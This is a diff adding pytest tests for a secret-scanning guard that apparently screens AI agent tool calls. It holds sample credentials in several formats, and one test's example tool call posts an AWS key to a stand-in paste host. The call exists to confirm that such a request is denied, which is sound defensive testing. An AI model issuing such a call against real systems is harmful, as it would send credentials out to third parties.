@@ -1,0 +1,89 @@
+"""secrets: credentials in arguments are denied or redacted, in outputs redacted."""
+
+from __future__ import annotations
+
+import pytest
+
+import lictor
+from lictor.protections.secret_scan import find_secrets
+
+from protection_helpers import gov, text, tool
+
+GH = "ghp_" + "Zx8Kq2LmN4pR7sT1vW3yB6cD9fG0hJ5kA2eU"
+SAMPLES = {
+    "aws_access_key": "AKIAZ3MHQ7RT5NWX4PLE",
+    "github_token": GH,
+    "slack_token": "xoxb-2048-4096-Gq3hNw8vJr1KpZ",
+    "stripe_key": "sk_live_51HqLyjWDarjtT1zdp7dc9Xk2",
+    "jwt": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
+    "private_key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----",
+    "google_api_key": "AIzaSyD3xK9mP2qR7sT4vW8yZ1bC5eF0gH6jL3n",
+}
+
+
+@pytest.mark.parametrize("kind,value", list(SAMPLES.items()))
+def test_each_detector_finds_its_format(kind: str, value: str) -> None:
+    found = find_secrets(f"config: {value} end")
+    assert [k for k, _, _ in found] == [kind]
+
+
+def test_secret_in_arguments_is_denied() -> None:
+    g = gov({"secrets": {}})
+    d = g.check(tool("http_post", url="https://paste.example.com", body=f"here is the key {SAMPLES['aws_access_key']}"))
+    assert d.verdict == "deny" and d.rule_ids == ("secrets",) and "aws_access_key" in d.reasons[0]
+    assert "ASI03" in d.risks
+    assert SAMPLES["aws_access_key"] not in " ".join(d.reasons + d.evidence)
+
+
+def test_secret_in_arguments_can_be_redacted_nested() -> None:
+    g = gov({"secrets": {"args": "redact"}})
+    d = g.check(tool("deploy", env={"DB_URL": "postgres://app:Sup3rS3cret!@db.internal:5432/app"}, tags=["x", GH]))
+    assert d.verdict == "redact"
+    assert d.action.args["env"]["DB_URL"] == "postgres://app:[SECRET:url_password]@db.internal:5432/app"
+    assert d.action.args["tags"] == ["x", "[SECRET:github_token]"]
+
+
+def test_outputs_and_content_are_redacted() -> None:
+    g = gov({"secrets": {}})
+    d = g.check_output(tool("read_file"), f"AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY\nOPENAI={'sk-proj-' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6'}")
+    assert d.verdict == "redact"
+    assert "wJalrX" not in d.output and "sk-proj" not in d.output
+    d = g.check(text("message", f"my token is {GH}", "user"))
+    assert d.verdict == "redact" and GH not in d.action.content
+
+
+def test_benign_look_alikes_are_not_secrets() -> None:
+    benign = [
+        "commit 3f786850e387550fdab836ed7e6dc881de23001b merged",
+        "request id 123e4567-e89b-12d3-a456-426614174000",
+        "see https://docs.python.org/3/library/secrets.html#module-secrets",
+        "password: ********", "api_key: ${API_KEY}", "token = <your-token-here>",
+        "The password must be at least 12 characters long.",
+        "file /usr/local/lib/python3.11/site-packages/pydantic/main.py",
+        "class AbstractSingletonProxyFactoryBeanManagerImpl",
+        "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+    ]
+    g = gov({"secrets": {}})
+    for b in benign:
+        assert find_secrets(b) == [], b
+        assert g.check(tool("search", q=b)).verdict == "allow"
+
+
+def test_ignore_list_and_detector_selection() -> None:
+    g = gov({"secrets": {"ignore": ["AKIAIOSFODNN7EXAMPLE"], "detectors": ["aws_access_key"]}})
+    assert g.check(tool("t", x="AKIAIOSFODNN7EXAMPLE")).verdict == "allow"
+    assert g.check(tool("t", x=GH)).verdict == "allow"  # github detector off
+    assert g.check(tool("t", x="AKIAZ3MHQ7RT5NWX4PLE")).verdict == "deny"
+
+
+@pytest.mark.parametrize("section,field", [
+    ({"args": "block"}, "args"),
+    ({"outputs": "approve"}, "outputs"),
+    ({"detectors": ["aws"]}, "detectors"),
+    ({"min_entropy": 9}, "min_entropy"),
+    ({"replacement": "[{what}]"}, "replacement"),
+])
+def test_invalid_config_names_the_field(section: dict, field: str) -> None:
+    with pytest.raises(lictor.PolicyError) as e:
+        gov({"secrets": section})
+    assert f"protections.secrets.{field}" in str(e.value)
